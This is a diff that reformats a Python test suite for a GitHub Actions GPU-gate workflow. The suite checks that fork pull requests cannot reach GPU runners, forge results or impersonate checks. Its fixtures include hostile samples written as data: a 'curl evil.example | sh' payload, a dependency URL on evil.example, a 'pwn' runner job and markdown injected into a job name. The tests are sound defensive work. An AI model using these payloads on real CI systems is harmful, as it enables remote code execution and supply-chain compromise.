@@ -21,7 +21,9 @@ from cryptography.hazmat.primitives import serialization
 from cryptography.hazmat.primitives.asymmetric import rsa
 from github_api import FakeGitHub, example, validate_webhook
 
-pytestmark = pytest.mark.slow  # each event runs the workflows' jobs: real git, real pytest with xdist workers
+pytestmark = (
+    pytest.mark.slow
+)  # each event runs the workflows' jobs: real git, real pytest with xdist workers
 
 EXAMPLES = REPO / "examples" / "upstream"
 PIN = re.search(r"rocm-gate\.yml@([0-9a-f]{40})", (EXAMPLES / "rocm-gate.yml").read_text())[1]
@@ -32,21 +34,34 @@ CHECK = "rocm-gate / MI300X-8"
 GATES = {
     "tests/kernels/attention/test_paged.py": (
         "import pytest\n\npytestmark = pytest.mark.rocm_gate(group='attention')\n\n"
-        "def test_paged_attention():\n    assert sum([1, 2]) == 3\n"),
+        "def test_paged_attention():\n    assert sum([1, 2]) == 3\n"
+    ),
     "tests/entrypoints/openai/test_api.py": (
-        "import pytest\n\n@pytest.mark.rocm_gate(group='api')\ndef test_chat():\n    assert 'ok'\n"),
+        "import pytest\n\n@pytest.mark.rocm_gate(group='api')\ndef test_chat():\n    assert 'ok'\n"
+    ),
     "pyproject.toml": "[project]\nname = 'vllm'\nversion = '0'\n",
 }
-REGRESSION = {"tests/kernels/attention/test_paged.py": GATES["tests/kernels/attention/test_paged.py"].replace(
-    "assert sum([1, 2]) == 3", "assert sum([1, 2]) == 4, 'paged attention output differs'")}
+REGRESSION = {
+    "tests/kernels/attention/test_paged.py": GATES["tests/kernels/attention/test_paged.py"].replace(
+        "assert sum([1, 2]) == 3", "assert sum([1, 2]) == 4, 'paged attention output differs'"
+    )
+}
 
 
 def one_class(text: str, name: str) -> str:
     """The shipped callers name two classes; this upstream has runners of one (mi300x-8), as a repository
     with one class writes them. The edit must apply, so a change to the shipped files shows here."""
-    edits = {"rocm-gate.yml": ('\'["mi300x-8", "mi355x-8"]\'', '\'["mi300x-8"]\''),
-             "rocm-gate-publish.yml": ("          - runner-class: mi355x-8\n            runner-group: rocm-mi355x-8\n", ""),
-             "rocm-gate-sweep.yml": ("mi300x-8=rocm-mi300x-8 mi355x-8=rocm-mi355x-8", "mi300x-8=rocm-mi300x-8")}
+    edits = {
+        "rocm-gate.yml": ('\'["mi300x-8", "mi355x-8"]\'', "'[\"mi300x-8\"]'"),
+        "rocm-gate-publish.yml": (
+            "          - runner-class: mi355x-8\n            runner-group: rocm-mi355x-8\n",
+            "",
+        ),
+        "rocm-gate-sweep.yml": (
+            "mi300x-8=rocm-mi300x-8 mi355x-8=rocm-mi355x-8",
+            "mi300x-8=rocm-mi300x-8",
+        ),
+    }
     old, new = edits[name]
     assert old in text, f"examples/upstream/{name} changed: update the harness's one-class edit"
     return text.replace(old, new)
@@ -58,20 +73,40 @@ def github(tmp_path):
     with FakeGitHub(token="ghs_unused") as fake:
         fake.app_public_key = key.public_key()
         fake.permissions.update({"maintainer": "maintain", "triager": "triage", "reader": "read"})
-        fake.private_key = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
-                                             serialization.NoEncryption()).decode()
+        fake.private_key = key.private_bytes(
+            serialization.Encoding.PEM,
+            serialization.PrivateFormat.PKCS8,
+            serialization.NoEncryption(),
+        ).decode()
         yield fake
-        assert fake.errors == [], "the loopback GitHub sent a response GitHub's description does not allow"
+        assert fake.errors == [], (
+            "the loopback GitHub sent a response GitHub's description does not allow"
+        )
 
 
 @pytest.fixture
 def upstream(github, tmp_path) -> Actions:
-    actions = Actions(github, tmp_path / "github", secrets={
-        "ROCM_GATE_APP_ID": str(APP_ID), "ROCM_GATE_APP_PRIVATE_KEY": github.private_key,
-        "ROCM_GATE_APP_INSTALLATION_ID": "77"})
-    actions.runner_groups.append(RunnerGroup("rocm-mi300x-8", {"self-hosted", "mi300x-8"}, [GATE_PIN],
-                                             write_gpu_tools(tmp_path / "mi300x-8-tools")))
-    files = {f".github/workflows/{p.name}": one_class(p.read_text(), p.name) for p in sorted(EXAMPLES.glob("*.yml"))}
+    actions = Actions(
+        github,
+        tmp_path / "github",
+        secrets={
+            "ROCM_GATE_APP_ID": str(APP_ID),
+            "ROCM_GATE_APP_PRIVATE_KEY": github.private_key,
+            "ROCM_GATE_APP_INSTALLATION_ID": "77",
+        },
+    )
+    actions.runner_groups.append(
+        RunnerGroup(
+            "rocm-mi300x-8",
+            {"self-hosted", "mi300x-8"},
+            [GATE_PIN],
+            write_gpu_tools(tmp_path / "mi300x-8-tools"),
+        )
+    )
+    files = {
+        f".github/workflows/{p.name}": one_class(p.read_text(), p.name)
+        for p in sorted(EXAMPLES.glob("*.yml"))
+    }
     actions.commit({**files, **GATES}, "the upstream repository with the AMD gate")
     return actions
 
@@ -96,7 +131,9 @@ def test_a_same_repository_pr_ends_with_one_green_check_on_its_head(upstream, gi
     assert gate.runner_group == "rocm-mi300x-8" and gate.conclusion == "success", gate.steps
     assert (PYTEST_ROCM, PIN) in gate.checkouts and (upstream.repo, pull.merge) in gate.checkouts
     [check] = checks(github, pull.head)
-    assert (check["status"], check["conclusion"]) == ("completed", "success"), check["output"]["summary"]
+    assert (check["status"], check["conclusion"]) == ("completed", "success"), check["output"][
+        "summary"
+    ]
     assert check["external_id"] == str(run.id)
     assert github.checks(pull.merge) == []  # never on the merge commit the run tested
     summary = check["output"]["summary"]
@@ -109,7 +146,10 @@ def test_an_approved_fork_pr_waits_then_ends_with_one_check_on_its_head(upstream
     opened = upstream.pull_request(pull, "opened", "forker")
     assert on_gpu(upstream) == [] and opened.job("/ trust").outputs["trusted"] == "false"
     [waiting] = checks(github, pull.head)
-    assert (waiting["conclusion"], waiting["output"]["title"]) == ("action_required", "Waiting for approval")
+    assert (waiting["conclusion"], waiting["output"]["title"]) == (
+        "action_required",
+        "Waiting for approval",
+    )
     labeled = upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
     assert on_gpu(upstream) == ["gate (mi300x-8) / gate"]
     [check] = checks(github, pull.head)  # the placeholder was taken over: still one check
@@ -121,12 +161,17 @@ def test_a_new_push_to_an_approved_fork_pr_needs_a_new_approval(upstream, github
     pull = upstream.open_pull(103, {"vllm/model.py": "x = 3\n"}, fork=True)
     upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
     first = pull.head
-    upstream.push_to_pull(pull, {"vllm/model.py": "import os; os.system('curl evil.example | sh')\n"})
+    upstream.push_to_pull(
+        pull, {"vllm/model.py": "import os; os.system('curl evil.example | sh')\n"}
+    )
     upstream.pull_request(pull, "synchronize", "forker")
     assert on_gpu(upstream) == ["gate (mi300x-8) / gate"]  # only the approved commit's run
     assert [c["conclusion"] for c in checks(github, first)] == ["success"]
     [waiting] = checks(github, pull.head)
-    assert waiting["conclusion"] == "action_required" and "again after a new push" in waiting["output"]["summary"]
+    assert (
+        waiting["conclusion"] == "action_required"
+        and "again after a new push" in waiting["output"]["summary"]
+    )
 
 
 def test_a_label_by_someone_without_write_access_approves_nothing(upstream, github):
@@ -137,7 +182,7 @@ def test_a_label_by_someone_without_write_access_approves_nothing(upstream, gith
     assert [c["conclusion"] for c in checks(github, pull.head)] == ["action_required"]
 
 
-FORK_CALLER_IGNORING_LABELS = '''
+FORK_CALLER_IGNORING_LABELS = """
 name: rocm-gate
 on:
   pull_request:
@@ -152,7 +197,7 @@ jobs:
     with:
       runner-class: mi300x-8
       suites: tests -m rocm_gate
-'''
+"""
 
 
 @pytest.mark.parametrize("caller", ["shipped", "fork's copy without the label filter"])
@@ -164,8 +209,17 @@ def test_another_label_on_an_approved_fork_pr_changes_nothing(upstream, github, 
     if caller == "shipped":
         upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
     else:  # a fork PR that changes .github/ is approved by a dispatch, which runs the default branch's files
-        upstream.dispatch("rocm-gate.yml", {"sha": pull.head, "pr": str(pull.number), "runner-class": "",
-                                            "scope": "all", "previous-run": ""}, "maintainer")
+        upstream.dispatch(
+            "rocm-gate.yml",
+            {
+                "sha": pull.head,
+                "pr": str(pull.number),
+                "runner-class": "",
+                "scope": "all",
+                "previous-run": "",
+            },
+            "maintainer",
+        )
     [before] = checks(github, pull.head)
     assert before["conclusion"] == "success"
     run = upstream.pull_request(pull, "labeled", "maintainer", label="documentation")
@@ -173,45 +227,58 @@ def test_another_label_on_an_approved_fork_pr_changes_nothing(upstream, github, 
     if caller != "shipped":
         assert run.job("/ trust").outputs["trusted"] == "false"
     [after] = checks(github, pull.head)
-    assert after == before  # not a newer action_required check over the passed one, not even an update
+    assert (
+        after == before
+    )  # not a newer action_required check over the passed one, not even an update
 
 
 def fork_caller(jobs: str) -> dict:
-    return {".github/workflows/rocm-gate.yml": "name: rocm-gate\non:\n  pull_request:\n    types: [opened, synchronize, "
-            "reopened, labeled]\npermissions: {}\njobs:\n" + jobs}
+    return {
+        ".github/workflows/rocm-gate.yml": "name: rocm-gate\non:\n  pull_request:\n    types: [opened, synchronize, "
+        "reopened, labeled]\npermissions: {}\njobs:\n" + jobs
+    }
 
 
-CALLER_WITH_INPUTS = '''  gate:
+CALLER_WITH_INPUTS = """  gate:
     uses: rocm/pytest-rocm/.github/workflows/rocm-gate.yml@%s
     with:
       runner-class: mi300x-8
       %s
-'''
+"""
 
 
-@pytest.mark.parametrize("extra", ["pytest-rocm: git+https://evil.example/pytest-rocm", "approval-label: documentation"])
+@pytest.mark.parametrize(
+    "extra", ["pytest-rocm: git+https://evil.example/pytest-rocm", "approval-label: documentation"]
+)
 def test_a_fork_caller_cannot_choose_the_code_that_decides_or_the_label(upstream, github, extra):
     pull = upstream.open_pull(106, fork_caller(CALLER_WITH_INPUTS % (PIN, extra)), fork=True)
     run = upstream.pull_request(pull, "labeled", "maintainer", label="documentation")
-    assert run.conclusion == "startup_failure" and "is not defined in the referenced workflow" in run.jobs[-1].name
-    assert [j.name for j in run.jobs] == [run.jobs[-1].name]  # no job of the gate run ran, not even trust
+    assert (
+        run.conclusion == "startup_failure"
+        and "is not defined in the referenced workflow" in run.jobs[-1].name
+    )
+    assert [j.name for j in run.jobs] == [
+        run.jobs[-1].name
+    ]  # no job of the gate run ran, not even trust
     assert not any("evil" in line for line in upstream.installs()) and on_gpu(upstream) == []
     assert all(c["conclusion"] != "success" for c in checks(github, pull.head))
 
 
-DIRECT_GPU_JOB = '''  pwn:
+DIRECT_GPU_JOB = """  pwn:
     runs-on: [self-hosted, mi300x-8]
     steps:
       - run: echo "the fork's code on a GPU runner" && touch /tmp/pwned
-'''
-OTHER_PIN = '''  gate:
+"""
+OTHER_PIN = """  gate:
     uses: rocm/pytest-rocm/.github/workflows/rocm-gate.yml@0000000000000000000000000000000000000001
     with:
       runner-class: mi300x-8
-'''
+"""
 
 
-@pytest.mark.parametrize("jobs", [DIRECT_GPU_JOB, OTHER_PIN], ids=["own job on the runner", "another pin"])
+@pytest.mark.parametrize(
+    "jobs", [DIRECT_GPU_JOB, OTHER_PIN], ids=["own job on the runner", "another pin"]
+)
 def test_a_fork_caller_never_gets_a_gpu_runner_even_after_approval(upstream, github, jobs):
     pull = upstream.open_pull(107, fork_caller(jobs), fork=True)
     run = upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
@@ -226,7 +293,7 @@ def test_a_fork_caller_never_gets_a_gpu_runner_even_after_approval(upstream, git
     assert check["conclusion"] == "action_required"
 
 
-FAKE_RESULTS_JOB = '''  gate:
+FAKE_RESULTS_JOB = """  gate:
     runs-on: ubuntu-latest
     steps:
       - run: |
@@ -236,25 +303,45 @@ FAKE_RESULTS_JOB = '''  gate:
         with:
           name: rocm-gate-results-mi300x-8
           path: out/gate/
-%s'''
-ALSO_CALL_THE_PIN = '''  decoy:
+%s"""
+ALSO_CALL_THE_PIN = """  decoy:
     uses: rocm/pytest-rocm/.github/workflows/rocm-gate.yml@%s
     with:
       runner-class: mi300x-8
-'''
+"""
 
 
-@pytest.mark.parametrize("decoy", [False, True], ids=["hosted job only", "and a call of the pinned workflow"])
+@pytest.mark.parametrize(
+    "decoy", [False, True], ids=["hosted job only", "and a call of the pinned workflow"]
+)
 def test_results_a_fork_made_on_a_hosted_runner_never_make_a_green_check(upstream, github, decoy):
     jobs = FAKE_RESULTS_JOB % (ALSO_CALL_THE_PIN % PIN if decoy else "")
-    pull = upstream.open_pull(108, {**fork_caller(""), ".github/workflows/rocm-gate.yml": fork_caller(jobs)[
-        ".github/workflows/rocm-gate.yml"]}, fork=True)
+    pull = upstream.open_pull(
+        108,
+        {
+            **fork_caller(""),
+            ".github/workflows/rocm-gate.yml": fork_caller(jobs)[".github/workflows/rocm-gate.yml"],
+        },
+        fork=True,
+    )
     run = upstream.pull_request(pull, "opened", "forker")
-    assert [j.conclusion for j in run.jobs if j.name == "gate"] == ["success"]  # the forged results were uploaded
-    assert any(a["name"] == "rocm-gate-results-mi300x-8" and a["run_id"] == run.id for a in github.artifacts.values())
+    assert [j.conclusion for j in run.jobs if j.name == "gate"] == [
+        "success"
+    ]  # the forged results were uploaded
+    assert any(
+        a["name"] == "rocm-gate-results-mi300x-8" and a["run_id"] == run.id
+        for a in github.artifacts.values()
+    )
     [check] = checks(github, pull.head)
-    assert check["conclusion"] == "action_required" and check["output"]["title"] == "Waiting for approval"
-    why = "did not use the pinned gate workflow" if not decoy else "no job of the run ran on the runner group"
+    assert (
+        check["conclusion"] == "action_required"
+        and check["output"]["title"] == "Waiting for approval"
+    )
+    why = (
+        "did not use the pinned gate workflow"
+        if not decoy
+        else "no job of the run ran on the runner group"
+    )
     assert why in check["output"]["summary"]
 
 
@@ -275,12 +362,17 @@ def test_an_approved_run_on_a_simulated_platform_is_refused(upstream, github):
     pull = upstream.open_pull(109, SIMULATING_INI, fork=False, author="maintainer")
     upstream.pull_request(pull, "opened", "maintainer")
     [check] = checks(github, pull.head)
-    assert check["conclusion"] == "action_required" and "simulated platform profile 'mi300x-8'" in check["output"]["summary"]
+    assert (
+        check["conclusion"] == "action_required"
+        and "simulated platform profile 'mi300x-8'" in check["output"]["summary"]
+    )
 
 
 def test_results_that_claim_another_commit_put_no_check_on_it(upstream, github):
     target = upstream.main()
-    pull = upstream.open_pull(110, {"tests/conftest.py": LYING_CONFTEST % target}, fork=False, author="maintainer")
+    pull = upstream.open_pull(
+        110, {"tests/conftest.py": LYING_CONFTEST % target}, fork=False, author="maintainer"
+    )
     upstream.pull_request(pull, "opened", "maintainer")
     assert checks(github, target) == []
     [check] = checks(github, pull.head)
@@ -288,12 +380,16 @@ def test_results_that_claim_another_commit_put_no_check_on_it(upstream, github):
     assert f"the results say the head commit was {target}" in check["output"]["summary"]
 
 
-def click(upstream, github, check: dict, tmp_path, identifier: str | None = None) -> subprocess.CompletedProcess:
+def click(
+    upstream, github, check: dict, tmp_path, identifier: str | None = None
+) -> subprocess.CompletedProcess:
     """What the relay does with the App's `check_run` webhook for a click on `check` (docs/github.md, "Buttons"): a
     button (`identifier`) or GitHub's own Re-run, handed to `rocm-gate rerun` with the App's token."""
     action = "requested_action" if identifier else "rerequested"
     event = example(f"check_run.{action}")
-    event["check_run"].update(name=check["name"], head_sha=check["head_sha"], external_id=check["external_id"])
+    event["check_run"].update(
+        name=check["name"], head_sha=check["head_sha"], external_id=check["external_id"]
+    )
     event["check_run"]["output"]["title"] = check["output"]["title"]
     if identifier:
         event["requested_action"] = {"identifier": identifier}
@@ -303,9 +399,18 @@ def click(upstream, github, check: dict, tmp_path, identifier: str | None = None
     path = tmp_path / "click.json"
     path.write_text(json.dumps(event))
     github.tokens.add("ghs_relay")
-    return subprocess.run([sys.executable, "-m", "pytest_rocm.cli", "rerun", "--event-path", str(path)],
-                          env={**os.environ, "GITHUB_API_URL": github.url, "GITHUB_REPOSITORY": upstream.repo,
-                               "GITHUB_TOKEN": "ghs_relay"}, capture_output=True, text=True, timeout=120)
+    return subprocess.run(
+        [sys.executable, "-m", "pytest_rocm.cli", "rerun", "--event-path", str(path)],
+        env={
+            **os.environ,
+            "GITHUB_API_URL": github.url,
+            "GITHUB_REPOSITORY": upstream.repo,
+            "GITHUB_TOKEN": "ghs_relay",
+        },
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
 
 
 def rerun_button(upstream, github, check: dict, identifier: str, tmp_path):
@@ -320,13 +425,18 @@ def test_re_run_amd_reruns_the_failures_and_lands_on_the_prs_head(upstream, gith
     pull = upstream.open_pull(111, REGRESSION, fork=True)
     first = upstream.pull_request(pull, "labeled", "maintainer", label="rocm-ci-approved")
     [failed] = checks(github, pull.head)
-    assert failed["conclusion"] == "failure" and "paged attention output differs" in failed["output"]["summary"]
+    assert (
+        failed["conclusion"] == "failure"
+        and "paged attention output differs" in failed["output"]["summary"]
+    )
     rerun = rerun_button(upstream, github, failed, "rerun-amd", tmp_path)
     assert rerun.event == "workflow_dispatch"
     assert github.workflow_runs[rerun.id]["display_title"] == f"rocm-gate dispatch {pull.head}"
     ran = rerun.job("/ gate").steps
     [gates] = [s for s in ran if s["name"] == "run the gates"]
-    assert "test_paged_attention" in gates["output"] and "test_chat" not in gates["output"]  # only the failure
+    assert (
+        "test_paged_attention" in gates["output"] and "test_chat" not in gates["output"]
+    )  # only the failure
     assert checks(github, upstream.main()) == []  # not on the default branch the dispatch ran from
     older, newer = checks(github, pull.head)
     assert older["id"] == failed["id"] and newer["external_id"] == str(rerun.id) != str(first.id)
@@ -353,11 +463,20 @@ def test_a_check_left_running_is_finished_by_the_scheduled_sweep(upstream, githu
     upstream.undelivered.clear()
     swept = upstream.schedule("rocm-gate-sweep.yml")
     step = swept.job("/ sweep").steps[-1]
-    assert step["conclusion"] == "success" and f"run {run.id} mi300x-8: published: success" in step["output"], step
+    assert (
+        step["conclusion"] == "success"
+        and f"run {run.id} mi300x-8: published: success" in step["output"]
+    ), step
     [check] = checks(github, pull.head)
-    assert (check["status"], check["conclusion"], check["external_id"]) == ("completed", "success", str(run.id))
+    assert (check["status"], check["conclusion"], check["external_id"]) == (
+        "completed",
+        "success",
+        str(run.id),
+    )
     again = upstream.schedule("rocm-gate-sweep.yml")
-    assert "0 run(s) needed something" in again.job("/ sweep").steps[-1]["output"]  # nothing left to do
+    assert (
+        "0 run(s) needed something" in again.job("/ sweep").steps[-1]["output"]
+    )  # nothing left to do
 
 
 def test_the_publishes_of_one_run_never_overlap(upstream, github):
@@ -371,19 +490,21 @@ def test_the_publishes_of_one_run_never_overlap(upstream, github):
     assert "cancel-in-progress: false" in spec
 
 
-HOSTILE_JOB_NAME = '''  gate:
+HOSTILE_JOB_NAME = """  gate:
     name: "gate\\n\\n# EVIL heading [EVIL](https://evil.example) @evil-team"
     uses: rocm/pytest-rocm/.github/workflows/rocm-gate.yml@%s
     with:
       runner-class: mi300x-8
       suites: tests -m rocm_gate
-'''
+"""
 
 
 def test_names_a_caller_gives_its_jobs_stay_text_in_the_check(upstream, github):
     from test_untrusted_results import render
 
-    pull = upstream.open_pull(115, fork_caller(HOSTILE_JOB_NAME % PIN), fork=False, author="maintainer")
+    pull = upstream.open_pull(
+        115, fork_caller(HOSTILE_JOB_NAME % PIN), fork=False, author="maintainer"
+    )
     upstream.pull_request(pull, "opened", "maintainer")
     [check] = checks(github, pull.head)
     assert check["conclusion"] == "success", check["output"]["summary"]
@@ -406,7 +527,9 @@ def test_a_re_run_of_the_workflow_run_gets_a_check_of_its_own(upstream, github):
     assert newer["external_id"] == f"{first.id}-2" and newer["conclusion"] == "failure"
 
 
-IMPERSONATOR = {"vllm/model.py": "x = 17\n", ".github/workflows/impersonate.yml": """
+IMPERSONATOR = {
+    "vllm/model.py": "x = 17\n",
+    ".github/workflows/impersonate.yml": """
 name: impersonate
 on: pull_request
 permissions: {}
@@ -421,7 +544,8 @@ jobs:
     runs-on: ubuntu-latest
     steps:
       - run: "true"
-"""}
+""",
+}
 
 
 def test_a_fork_job_named_like_the_check_is_not_taken_for_an_approved_result(upstream, github):
@@ -432,7 +556,10 @@ def test_a_fork_job_named_like_the_check_is_not_taken_for_an_approved_result(ups
     fake = [c for c in github.checks(pull.head, CHECK) if c["app_id"] != APP_ID]
     assert [c["conclusion"] for c in fake] == ["success"]  # the impersonation exists
     [ours] = checks(github, pull.head)
-    assert ours["conclusion"] == "action_required" and ours["output"]["title"] == "Waiting for approval"
+    assert (
+        ours["conclusion"] == "action_required"
+        and ours["output"]["title"] == "Waiting for approval"
+    )
 
 
 def test_a_rerun_click_on_a_waiting_check_approves_nothing(upstream, github, tmp_path):
@@ -440,5 +567,7 @@ def test_a_rerun_click_on_a_waiting_check_approves_nothing(upstream, github, tmp
     upstream.pull_request(pull, "opened", "forker")
     [waiting] = checks(github, pull.head)
     done = click(upstream, github, waiting, tmp_path)
-    assert done.returncode == 0 and "ignored" in done.stdout and "approve it on purpose" in done.stdout
+    assert (
+        done.returncode == 0 and "ignored" in done.stdout and "approve it on purpose" in done.stdout
+    )
     assert github.dispatches == [] and on_gpu(upstream) == []
